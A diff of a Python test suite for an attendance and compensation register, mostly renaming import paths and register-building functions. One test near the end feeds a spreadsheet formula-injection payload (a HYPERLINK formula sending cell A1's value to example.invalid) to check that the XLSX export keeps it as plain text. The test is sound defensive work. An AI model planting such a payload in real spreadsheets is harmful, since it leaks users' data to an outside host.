@@ -16,17 +16,16 @@ from sqlalchemy import select
 
 from integrator.config import Rules
 from integrator.domain.types import MeetingProvider, ServiceModel, StaffRole
-from integrator.jobs.attendance import (
+from integrator.jobs.attendance.evaluate import (
     REPORT_KIND,
     CorrectionError,
     correct_attendance,
     evaluate_window,
-    register_for_month,
-    register_for_week,
     report_key,
 )
-from integrator.jobs.identity import map_identity, unmatched_attendees
+from integrator.jobs.attendance.identity import map_identity, unmatched_attendees
 from integrator.reports.export import to_csv, to_xlsx
+from integrator.reports.register import build_month, build_week
 from integrator.store.db import Store
 from integrator.store.models import (
     AttendanceDay,
@@ -255,14 +254,14 @@ def play_rest_of_week(week: Week) -> None:
 
 def test_register_before_thursdays_report_shows_pending_days(week: Week) -> None:
     week.sync()
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     assert reg.table() == BEFORE_THURSDAY_REPORT
 
 
 def test_the_scripted_week_gives_the_hand_written_register(week: Week) -> None:
     week.sync()
     play_rest_of_week(week)
-    reg = register_for_month(week.store, "testorg", "2026-11", rules=RULES)
+    reg = build_month(week.store, "testorg", "2026-11", rules=RULES)
     assert reg.table() == FINAL
     assert {r.client_code: r.compensation_days for r in reg.rows} == FINAL_COMPENSATION
     assert {r.client_code: r.amount for r in reg.rows}["K-0001"] == Decimal("18.00")
@@ -295,7 +294,7 @@ def test_a_masked_phone_number_mapped_once_is_not_reused_for_the_next_meeting(we
     play_rest_of_week(week)
     assert unmatched_attendees(week.store, week.org_id) == []  # this meeting's record is attached
     with week.store.session() as s:
-        from integrator.jobs.identity import ClientIndex
+        from integrator.jobs.attendance.identity import ClientIndex
 
         index = ClientIndex.load(s, week.org_id)
     # "+358 40 *** **12" could be anyone next time: the coordinator is asked again (jobs.identity).
@@ -315,7 +314,7 @@ def test_each_day_explains_itself_in_finnish(week: Week) -> None:
 def test_csv_and_xlsx_carry_the_same_register(week: Week) -> None:
     week.sync()
     play_rest_of_week(week)
-    reg = register_for_month(week.store, "testorg", "2026-11", rules=RULES)
+    reg = build_month(week.store, "testorg", "2026-11", rules=RULES)
     lines = to_csv(reg).splitlines()
     assert lines[0] == ("asiakas,ryhmä,2026-11-24,2026-11-25,2026-11-26,läsnä,perusteltu,poissa,odottaa,"
                         "korvauspäivät,korvaus_eur,huomautukset")
@@ -339,12 +338,12 @@ def test_csv_and_xlsx_carry_the_same_register(week: Week) -> None:
 
 def test_a_group_register_has_only_that_groups_days(week: Week) -> None:
     week.sync()
-    reg = register_for_month(week.store, "testorg", "2026-11", group_key="g-wed", rules=RULES)
+    reg = build_month(week.store, "testorg", "2026-11", group_key="g-wed", rules=RULES)
     assert reg.table() == {"K-0006": {WED: "absent"}, "K-0007": {WED: "absent"}}
 
 
 def test_two_absences_in_a_row_alert_the_responsible_worker_once_with_code_group_and_dates_only(week: Week) -> None:
-    from integrator.jobs.alerts import queue_absence_alerts
+    from integrator.jobs.attendance.alerts import queue_absence_alerts
     from integrator.store.models import OutboxMessage
 
     week.sync()
@@ -361,7 +360,7 @@ def test_two_absences_in_a_row_alert_the_responsible_worker_once_with_code_group
 
 
 def test_an_excused_day_breaks_the_streak(week: Week) -> None:
-    from integrator.jobs.alerts import queue_absence_alerts
+    from integrator.jobs.attendance.alerts import queue_absence_alerts
 
     week.sync()
     play_rest_of_week(week)
@@ -375,7 +374,7 @@ def test_a_corrupt_session_is_set_aside_and_everyone_else_is_still_evaluated(wee
     week.attended_raw("K-0004", "g-tue", TUE, [[utc(TUE, 9).isoformat(), utc(TUE, 8).isoformat()]])  # leaves first
     week.attended_raw("K-0005", "g-tue", TUE, [["2026-11-24T08:00:00", "2026-11-24T08:45:00"]])  # no time zone
     week.sync()
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     assert reg.table() == BEFORE_THURSDAY_REPORT
     for code in ("K-0004", "K-0005"):
         evidence = week.evidence(code, "g-tue", TUE)
@@ -389,7 +388,7 @@ def test_a_work_day_before_the_data_protection_briefing_is_not_expected(week: We
     week.returned("K-0010", "g-tue", TUE, utc(TUE, 10))
     week.returned("K-0010", "g-tue", THU, utc(THU, 10))
     week.sync()
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     assert reg.table()["K-0010"] == {THU: "present"}
 
 
@@ -404,7 +403,7 @@ def test_a_client_moved_to_another_group_on_a_tuesday_is_paid_for_that_tuesday_o
     moved_on_tuesday(week)
     week.attended("K-0001", "g-tue-late", TUE, (10, 0, 10, 45))  # and was in the old group's meeting too
     week.sync()
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     (row,) = [r for r in reg.rows if r.client_code == "K-0001"]
     assert [(d.group, d.label) for d in row.days_on(TUE)] == [("g-tue", "läsnä"), ("g-tue-late", "läsnä")]
     assert (row.compensation_days, row.amount) == (1, Decimal("9.00"))
@@ -418,7 +417,7 @@ def test_a_date_with_two_work_days_shows_its_best_status_and_a_note_in_csv_and_x
             s.delete(m)
     week.attended("K-0001", "g-tue-late", TUE, (10, 0, 10, 45))
     week.sync()
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     line = next(x for x in to_csv(reg).splitlines() if x.startswith("K-0001,"))
     assert line == ('K-0001,g-tue g-tue-late,present,,,1,0,0,0,1,9.00,'  # Thursday: no longer in g-tue
                     '"24.11.: kaksi toimintapäivää samana päivänä (g-tue, g-tue-late), korvaus enintään kerran"')
@@ -434,7 +433,7 @@ def test_a_period_shortened_to_end_on_wednesday_no_longer_pays_thursday_after_th
     thursday = week.day_id("K-0001", "g-tue", THU)  # present: returned the task on time
     week.end_period("K-0001", WED)
     week.sync()
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     assert reg.table()["K-0001"] == {TUE: "present"}
     assert {r.client_code: r.amount for r in reg.rows}["K-0001"] == Decimal("9.00")
     with week.store.session() as s:
@@ -447,7 +446,7 @@ def test_a_period_shortened_to_end_on_wednesday_no_longer_pays_thursday_after_th
 def test_before_the_next_sync_the_register_shows_a_day_no_longer_expected_and_does_not_pay_it(week: Week) -> None:
     week.sync()
     week.end_period("K-0001", WED)
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     (row,) = [r for r in reg.rows if r.client_code == "K-0001"]
     assert reg.table()["K-0001"] == {TUE: "present", THU: "not_expected"}
     assert (row.compensation_days, row.amount) == (1, Decimal("9.00"))
@@ -462,7 +461,7 @@ def test_a_coordinators_decision_on_a_day_no_longer_expected_still_stands(week: 
                        week.coordinator_id)
     week.end_period("K-0001", WED)
     week.sync()
-    reg = register_for_week(week.store, "testorg", "2026-W48", rules=RULES)
+    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
     (row,) = [r for r in reg.rows if r.client_code == "K-0001"]
     assert reg.table()["K-0001"] == {TUE: "present", THU: "present"}
     assert row.compensation_days == 2
@@ -472,15 +471,15 @@ def test_a_coordinators_decision_on_a_day_no_longer_expected_still_stands(week: 
 def test_a_register_cannot_be_built_without_the_organisations_rules(week: Week) -> None:
     week.sync()
     with pytest.raises(TypeError):
-        register_for_month(week.store, "testorg", "2026-11")  # type: ignore[call-arg]
+        build_month(week.store, "testorg", "2026-11")  # type: ignore[call-arg]
     with pytest.raises(TypeError, match="rules"):
-        register_for_month(week.store, "testorg", "2026-11", rules=None)  # type: ignore[arg-type]
+        build_month(week.store, "testorg", "2026-11", rules=None)  # type: ignore[arg-type]
 
 
 def test_days_evaluated_at_an_earlier_rate_are_reported_at_that_rate_after_the_rate_changes(week: Week) -> None:
     week.sync(Rules(daily_compensation_eur=8.5))
     play_rest_of_week(week)  # re-evaluated the same week at 9 €: the first recorded rate stays
-    reg = register_for_month(week.store, "testorg", "2026-11", rules=Rules(daily_compensation_eur=10.0))
+    reg = build_month(week.store, "testorg", "2026-11", rules=Rules(daily_compensation_eur=10.0))
     amounts = {r.client_code: r.amount for r in reg.rows}
     assert amounts["K-0001"] == Decimal("17.00")  # Tue and Thu, both evaluated first at 8.50 €
     assert amounts["K-0006"] == Decimal("8.50")  # Wed, absent at first, present after the mapping
@@ -494,13 +493,13 @@ def test_a_day_without_a_recorded_rate_is_reported_at_the_configured_rate(week: 
     with week.store.session() as s:  # as rows evaluated before rates were recorded
         for row in s.scalars(select(AttendanceDay)).all():
             row.evidence = {**row.evidence, "rules": {"attendance_min_minutes": 30}}
-    reg = register_for_month(week.store, "testorg", "2026-11", rules=Rules(daily_compensation_eur=9.5))
+    reg = build_month(week.store, "testorg", "2026-11", rules=Rules(daily_compensation_eur=9.5))
     assert {r.client_code: r.amount for r in reg.rows}["K-0001"] == Decimal("19.00")
 
 
 def test_a_cancelled_work_day_is_nobodys_absence_in_the_alerts(week: Week) -> None:
     from integrator.domain.types import WorkDayStatus
-    from integrator.jobs.alerts import queue_absence_alerts
+    from integrator.jobs.attendance.alerts import queue_absence_alerts
 
     week.sync()
     play_rest_of_week(week)  # K-0004: absent Tuesday and Thursday
@@ -514,7 +513,7 @@ def test_a_cancelled_work_day_is_nobodys_absence_in_the_alerts(week: Week) -> No
 
 
 def test_a_day_no_longer_expected_is_not_an_absence_in_the_alerts(week: Week) -> None:
-    from integrator.jobs.alerts import queue_absence_alerts
+    from integrator.jobs.attendance.alerts import queue_absence_alerts
 
     week.sync()
     play_rest_of_week(week)  # K-0004: absent Tuesday and Thursday
@@ -530,7 +529,7 @@ def test_a_correction_reason_that_looks_like_a_formula_is_plain_text_in_the_xlsx
     week.sync()
     reason = '=HYPERLINK("http://example.invalid/?d="&A1,"Lue lisää")'
     correct_attendance(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", reason, week.coordinator_id)
-    reg = register_for_month(week.store, "testorg", "2026-11", rules=RULES)
+    reg = build_month(week.store, "testorg", "2026-11", rules=RULES)
     ws = load_workbook(io.BytesIO(to_xlsx(reg)))["Korjaukset"]
     cell = ws.cell(2, 5)
     assert cell.data_type != "f"
